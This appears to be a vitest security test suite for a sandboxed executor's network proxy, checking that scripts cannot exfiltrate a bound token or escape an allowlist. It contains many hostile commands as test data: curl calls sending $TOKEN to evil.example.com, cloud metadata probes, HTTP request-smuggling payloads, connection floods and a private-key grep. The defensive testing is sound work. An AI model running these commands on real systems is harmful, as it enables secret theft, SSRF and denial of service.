// What a hostile script does to the proxy of its run, on the executor of this machine: to reach other hosts, to read a value, and to keep the
// executor busy.

import { describe, expect, it, vi } from "vitest";
import { NETWORK_LIMITS } from "../../executor/proxy.mjs";
import { canConfine, KEY, openMachine, VALUE } from "../support/executor-network";

/** On a busy machine a run starts late. */
vi.setConfig({ testTimeout: 180_000, hookTimeout: 180_000 });

const machine = openMachine(["api.example.org", "files.example.org"], ({ url, headers, body }) => {
  const { pathname, host } = new URL(url);
  const received = headers.authorization ?? headers["x-key"] ?? "nothing";
  if (pathname === "/out")
    return new Response(null, { status: 302, headers: { location: "https://evil.example.com/" } });
  if (pathname === "/to-files")
    return new Response(null, { status: 307, headers: { location: "https://files.example.org/" } });
  if (pathname === "/header") return new Response("ok", { headers: { "x-received": received } });
  if (pathname === "/half") return new Response(received.slice(0, 18));
  if (pathname === "/rest") return new Response(received.slice(18));
  if (pathname === "/large") return new Response(new Uint8Array(9 * 1024 * 1024));
  return Response.json({ host, received, body });
});
const run = machine.run.bind(machine);

/** What every attack ends with: values only in headers to the host they are bound to, and in nothing that the run returns. */
function expectHarmless(result: {
  stdout: string;
  stderr: string;
  files: readonly { path: string; bytes: Uint8Array }[];
}) {
  const files = result.files.map(({ path, bytes }) => path + Buffer.from(bytes).toString("latin1"));
  const seen = [result.stdout, result.stderr, ...files].join("\n");
  for (const form of [VALUE, btoa(VALUE), encodeURIComponent(VALUE), KEY]) expect(seen).not.toContain(form);
  for (const { url, headers, body } of machine.sent) {
    expect(url + body).not.toContain(VALUE);
    expect(["api.example.org", "files.example.org"]).toContain(new URL(url).host);
    expect(new URL(url).protocol).toBe("https:");
    if (JSON.stringify(headers).includes(VALUE)) expect(new URL(url).host).toBe("api.example.org");
  }
}

const H = '-H "Authorization: Bearer $TOKEN"';
/** A shell script, what it prints, and how many requests leave the gateway. */
const BY_CURL: Record<string, [text: string, prints: RegExp, leaves: number]> = {
  "another approved host": [`curl -sS ${H} https://files.example.org/`, /not bound to the host files/, 0],
  "a host that is not declared": [`curl -sS ${H} https://evil.example.com/`, /cannot call 'evil\.example\.com'/, 0],
  "a host that is declared, but not approved": [`curl -sS ${H} https://new.example.org/`, /not approved/, 0],
  "a host below": [`curl -sS ${H} https://a.api.example.org/`, /cannot call/, 0],
  "the value in the name of a host": ["curl -sS https://$TOKEN.example.com/ 2>&1", /cannot call|not allowed/, 0],
  "names of hosts without the proxy": [
    "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; curl -sS -m 5 https://$TOKEN.example.com/ 2>&1; getent hosts $TOKEN.example.com; python3 -c \"import socket; socket.getaddrinfo('api.example.org', 443)\" 2>&1 | tail -1",
    /Could not resolve host[\s\S]*gaierror/,
    0,
  ],
  "a DNS server": [
    "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('8.8.8.8', 53)); print('in')\" 2>&1 | tail -1",
    /unreachable/,
    0,
  ],
  "another port": [`curl -sS ${H} https://api.example.org:8443/`, /cannot call 'api\.example\.org:8443'/, 0],
  "port 22 by a tunnel": ["curl -sS -p https://api.example.org:22/", /not allowed|cannot call/, 0],
  "plain http": [`curl -sS ${H} http://api.example.org/`, /https/, 0],
  "plain http on port 443": [`curl -sS ${H} http://api.example.org:443/`, /https/, 0],
  "a whole https URL without a tunnel": [
    `printf 'GET https://evil.example.com/ HTTP/1.1\\r\\nHost: api.example.org\\r\\nConnection: close\\r\\n\\r\\n' | python3 send.py`,
    /cannot call 'evil\.example\.com'/,
    0,
  ],
  "the path": [`curl -sS https://api.example.org/$TOKEN`, /in headers only/, 0],
  "the query": [`curl -sS "https://api.example.org/?a=$TOKEN"`, /in headers only/, 0],
  "the body": [`curl -sS -d "a=$TOKEN" https://api.example.org/`, /in headers only/, 0],
  "a form with a file": [`echo $TOKEN > f; curl -sS -F a=@f https://api.example.org/; rm f`, /in headers only/, 0],
  "a user name in the URL": [`curl -sS https://$TOKEN@api.example.org/`, /\[secret TOKEN\]|"received":"Basic/, 1],
  "a redirect to another host": [`curl -sSL ${H} https://api.example.org/out`, /redirects are not followed/, 1],
  "a redirect to an approved host": [
    `curl -sSL ${H} https://api.example.org/to-files`,
    /redirects are not followed/,
    1,
  ],
  "a Host header": [
    `curl -sS ${H} -H "Host: evil.example.com" https://api.example.org/`,
    /"host":"api\.example\.org"/,
    1,
  ],
  "a header for the proxy": [
    `curl -sS --proxy-header "Authorization: $TOKEN" https://api.example.org/`,
    /"received":"nothing"/,
    1,
  ],
  "a host that returns it": [`curl -sS ${H} https://api.example.org/`, /\[secret TOKEN\]/, 1],
  "a host that returns it in a header": [`curl -sSi ${H} https://api.example.org/header`, /\[secret TOKEN\]/, 1],
  "halves that a script joins": [
    `a=$(curl -sS ${H} https://api.example.org/half); b=$(curl -sS ${H} https://api.example.org/rest); echo "$a$b" | tee joined`,
    /\[secret TOKEN\]/,
    2,
  ],
  "the placeholder of another run": [
    `curl -sS -H "Authorization: skillgate_TOKEN_0123456789abcdef01234567" https://api.example.org/`,
    /"received":"skillgate_TOKEN_0123456789abcdef01234567"/,
    1,
  ],
  "this machine": ["curl -sS -x $HTTP_PROXY --noproxy '' http://127.0.0.1:8787/health", /not allowed|cannot call/, 0],
  "this machine by name": ["curl -sS -x $HTTP_PROXY --noproxy '' https://localhost/", /not allowed|cannot call/, 0],
  "this machine by IPv6": ["curl -sS -x $HTTP_PROXY --noproxy '' https://[::1]/ -k", /not allowed|cannot call/, 0],
  "this machine as a number": ["curl -sS -x $HTTP_PROXY --noproxy '' http://2130706433/", /not allowed|cannot call/, 0],
  "a metadata service": ["curl -sS http://169.254.169.254/latest/meta-data", /not allowed/, 0],
  "a metadata service over https": ["curl -sS -k https://169.254.169.254/", /not allowed/, 0],
  "a metadata service by name": ["curl -sS http://metadata.google.internal/", /not allowed/, 0],
  "the executor": [
    "curl -sS -x $HTTP_PROXY --noproxy '' http://127.0.0.1:8790/v1/executor",
    /not allowed|cannot call/,
    0,
  ],
  "another scheme": ["curl -sS -x $HTTP_PROXY ftp://evil.example.com/x 2>&1", /400|not valid|not supported/, 0],
  "a response that is too large": ["curl -sS https://api.example.org/large", /too large \(limit 8 MiB\)/, 1],
  "a request that is too large": [
    "head -c 5000000 /dev/zero | curl -sS --data-binary @- https://api.example.org/ 2>&1",
    /Request too large \(limit 4 MiB\)/,
    0,
  ],
  "a chunked request that is too large": [
    "head -c 5000000 /dev/zero | curl -sS -T - https://api.example.org/ 2>&1",
    /Request too large \(limit 4 MiB\)/,
    0,
  ],
};

/** Sends its input to the proxy, or into a tunnel to a host, and prints what returns. */
const SEND = `import socket, ssl, sys
s = socket.create_connection(("127.0.0.1", 3128))
if len(sys.argv) > 1:
  s.sendall(f"CONNECT {sys.argv[1]} HTTP/1.1\\r\\nHost: {sys.argv[1]}\\r\\n\\r\\n".encode())
  head = s.recv(4096)
  if b" 200 " not in head: sys.exit(print(head.decode("latin1")))
  if len(sys.argv) > 2: s = ssl.create_default_context().wrap_socket(s, server_hostname=sys.argv[2])
s.sendall(sys.stdin.buffer.read())
s.settimeout(20)
try:
  while part := s.recv(65536): sys.stdout.write(part.decode("latin1"))
except (OSError, ssl.SSLError) as error: print(error)
`;
const TUNNEL = "python3 send.py api.example.org:443 api.example.org";
const printf = (text: string) => `printf '${text.replaceAll("\n", "\\r\\n")}'`;
const CLOSE = "Host: api.example.org\nConnection: close\n";

/** Bytes that no client sends. */
const RAW: Record<string, [text: string, prints: RegExp, leaves: number]> = {
  "both lengths (CL and TE)": [
    `${printf(`POST / HTTP/1.1\n${CLOSE}Content-Length: 5\nTransfer-Encoding: chunked\n\n0\n\nGET /x HTTP/1.1\n\n`)} | ${TUNNEL}`,
    /^HTTP\/1\.1 400/,
    0,
  ],
  "a body that is too large, sent whole before the response is read": [
    `{ ${printf(`POST / HTTP/1.1\n${CLOSE}Content-Length: 5000000\n\n`)}; head -c 5000000 /dev/zero; } | ${TUNNEL}`,
    /^HTTP\/1\.1 413 Request too large/,
    0,
  ],
  "two lengths": [
    `${printf(`POST / HTTP/1.1\n${CLOSE}Content-Length: 5\nContent-Length: 6\n\nabcdef`)} | ${TUNNEL}`,
    /^HTTP\/1\.1 400/,
    0,
  ],
  "a chunked body with another coding": [
    `${printf(`POST / HTTP/1.1\n${CLOSE}Transfer-Encoding: chunked, identity\n\n0\n\n`)} | ${TUNNEL}`,
    /^HTTP\/1\.1 400/,
    0,
  ],
  "a line break in a header": [
    `printf 'GET / HTTP/1.1\\r\\n${CLOSE.replaceAll("\n", "\\r\\n")}A: b\\rHost: evil.example.com\\r\\n\\r\\n' | ${TUNNEL}`,
    /^HTTP\/1\.1 400/,
    0,
  ],
  "a whole URL in a tunnel": [
    `${printf(`GET https://evil.example.com/ HTTP/1.1\n${CLOSE}\n`)} | ${TUNNEL}`,
    /^HTTP\/1\.1 400 The target of the request is not valid/,
    0,
  ],
  "a path that begins with a host": [
    `${printf(`GET //evil.example.com/ HTTP/1.1\n${CLOSE}Authorization: PLACE\n\n`)} | sed "s/PLACE/$TOKEN/" | ${TUNNEL}`,
    /"host":"api\.example\.org"/,
    1,
  ],
  "a path that begins with an @": [
    `${printf(`GET @evil.example.com/ HTTP/1.1\n${CLOSE}\n`)} | ${TUNNEL}`,
    /^HTTP\/1\.1 400/,
    0,
  ],
  "a tunnel in a tunnel": [
    `${printf(`CONNECT evil.example.com:443 HTTP/1.1\n${CLOSE}\n`)} | ${TUNNEL}`,
    /^HTTP\/1\.1 400/,
    0,
  ],
  "a tunnel for another protocol": [
    `${printf("SSH-2.0-x\n")} | python3 send.py api.example.org:22`,
    /^HTTP\/1\.1 400/,
    0,
  ],
  "a tunnel without a port": ["python3 send.py evil.example.com < /dev/null", /400/, 0],
  "a tunnel to a path": ["python3 send.py evil.example.com:443/x < /dev/null", /400/, 0],
  "a tunnel to a port that is none": ["python3 send.py evil.example.com:99999 < /dev/null", /400/, 0],
  "a tunnel to one host and TLS for another": [
    `${printf(`GET / HTTP/1.1\n${CLOSE}\n`)} | python3 send.py evil.example.com:443 api.example.org`,
    /certificate|Hostname mismatch/i,
    0,
  ],
  "a tunnel to another host without TLS": [
    `${printf(`GET / HTTP/1.1\n${CLOSE}Authorization: PLACE\n\n`)} | sed "s/PLACE/$TOKEN/" | python3 send.py evil.example.com:443`,
    /^HTTP\/1\.1 403 This URL is not allowed: only https is allowed/,
    0,
  ],
  "a tunnel to its own host without TLS": [
    `${printf(`GET / HTTP/1.1\n${CLOSE}Authorization: PLACE\n\n`)} | sed "s/PLACE/$TOKEN/" | python3 send.py api.example.org:443`,
    /^HTTP\/1\.1 403 This URL is not allowed: only https is allowed/,
    0,
  ],
  "a tunnel in a tunnel without TLS": [
    `${printf(`CONNECT evil.example.com:443 HTTP/1.1\n${CLOSE}\n`)} | python3 send.py api.example.org:443`,
    /^HTTP\/1\.1 400/,
    0,
  ],
  "headers without end": [
    `(${printf(`GET / HTTP/1.1\n${CLOSE}`)}; for i in $(seq 3000); do printf 'A%d: %0100d\\r\\n' $i 0; done) | ${TUNNEL}`,
    // Empty: the connection ended while the headers were being sent, so the client has not read the response.
    /431|400|reset|^$/,
    0,
  ],
  "a request with the proxy as its host": [
    `${printf("GET / HTTP/1.1\nHost: 127.0.0.1:3128\nConnection: close\n\n")} | python3 send.py`,
    /^HTTP\/1\.1 400 The target/,
    0,
  ],
  "the socket of the proxy itself": [
    `curl -sS --unix-socket /opt/network/proxy http://evil.example.com/`,
    /400 The target|not valid/,
    0,
  ],
};

describe.runIf(canConfine)("on the executor, a script cannot use", () => {
  const files = `cat > send.py <<'PYTHON'\n${SEND}PYTHON\n`;
  it.each([...Object.entries(BY_CURL), ...Object.entries(RAW)])("%s", async (_, [text, prints, leaves]) => {
    const result = await run("shell", `${files}${text}\nrm -f send.py\n`);
    expect(result.reason).toBeNull();
    expect(result.stdout + result.stderr).toMatch(prints);
    expect(machine.sent).toHaveLength(leaves);
    expectHarmless(result);
  });

  it("certificates of its run elsewhere: their key is not in it", async () => {
    const result = await run("shell", "grep -rl 'PRIVATE KEY' /opt/network; env | grep 'PRIVATE KEY'; echo done");
    expect(result.stdout).toBe("done\n");
  });

  it("more requests than the limit", async () => {
    const result = await run(
      "python",
      `import urllib.request, urllib.error
refused = set()
for n in range(${NETWORK_LIMITS.requests + 5}):
  try: urllib.request.urlopen("https://api.example.org/")
  except urllib.error.HTTPError as error: refused.add(error.reason)
print(refused)`,
    );
    expect(result.stdout).toContain("Request limit of a run reached (100)");
    expect(machine.sent).toHaveLength(NETWORK_LIMITS.requests);
  });

  it("many requests at once: the gateway sees four", async () => {
    let open = 0;
    let most = 0;
    machine.respond(async () => {
      most = Math.max(most, ++open);
      await new Promise((resolve) => setImmediate(resolve));
      open--;
      return new Response("x");
    });
    const text = `const all = Array.from({ length: 40 }, () => fetch("https://api.example.org/").then((got) => got.status));
console.log((await Promise.all(all)).filter((status) => status === 200).length);`;
    expect(await run("javascript", text)).toMatchObject({ stdout: "40\n" });
    expect(most).toBeLessThanOrEqual(NETWORK_LIMITS.atOnce);
  });

  it("very many connections: other runs are answered, and its own later requests too", async () => {
    const text = `import socket, urllib.request
held = []
for n in range(200):
  s = socket.create_connection(("127.0.0.1", 3128)); held.append(s)
  s.sendall(b"GET http://api.example.org/ HTTP/1.1\\r\\n")
print("held")
for s in held: s.close()
while True:
  try: print(urllib.request.urlopen("https://api.example.org/").status); break
  except OSError: pass`;
    const [flood, other] = await Promise.all([
      run("python", text),
      run("shell", "curl -sS https://api.example.org/ > /dev/null && echo fine"),
    ]);
    expect(flood.stdout).toBe("held\n200\n");
    expect(other.stdout).toBe("fine\n");
  });

  it("a body that never ends, or a connection that stays open: the run ends without it", async () => {
    const text = `import socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"POST http://api.example.org/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 1000\\r\\n\\r\\nabc")
subprocess.Popen(["curl", "-sS", "-N", "https://api.example.org/slow"], start_new_session=True)
print("done")`;
    machine.respond(() => new Promise<Response>(() => {}));
    expect(await run("python", text)).toMatchObject({ stdout: "done\n", exit_code: 0, reason: null });
  });

  it("its relay, which it can only end for itself", async () => {
    const text = "pkill -9 -x node; curl -sS -m 5 https://api.example.org/ 2>&1; echo; true";
    const result = await run("shell", text);
    // Refused, or reset if the ending relay has accepted the connection.
    expect(result.stdout).toMatch(/^curl: \(\d+\)/m);
    expect(machine.sent).toEqual([]);
    expect(await run("shell", "curl -sS https://api.example.org/ > /dev/null && echo fine")).toMatchObject({
      stdout: "fine\n",
    });
  });

  it("the proxy of another run, which it does not see", async () => {
    const result = await run("shell", "ls -d /tmp/* /dev/shm/* /run/* /var/* 2>/dev/null; ls /opt/network");
    expect(result.stdout).toBe("ca.pem\nproxy\nrelay.cjs\n");
  });
});

describe.runIf(canConfine)("the route for responses", () => {
  const reply = (run: string, id: string, head: object, key = KEY) => {
    const body = new FormData();
    body.set("response", JSON.stringify(head));
    const headers = { authorization: `Bearer ${key}` };
    return fetch(`${machine.url}/v1/runs/${run}/responses/${id}`, { method: "POST", headers, body });
  };

  it("needs the key, a run and a response", async () => {
    const unknown = crypto.randomUUID();
    expect((await reply(unknown, "1", { status: 200 }, "wrong")).status).toBe(401);
    expect((await reply(unknown, "1", { status: 200 })).status).toBe(404);
    for (const [run, id] of [
      ["..", "1"],
      [unknown, "x"],
      [unknown, "-1"],
    ] as const)
      expect((await reply(run, id, { status: 200 })).status).toBe(404);
  });
});
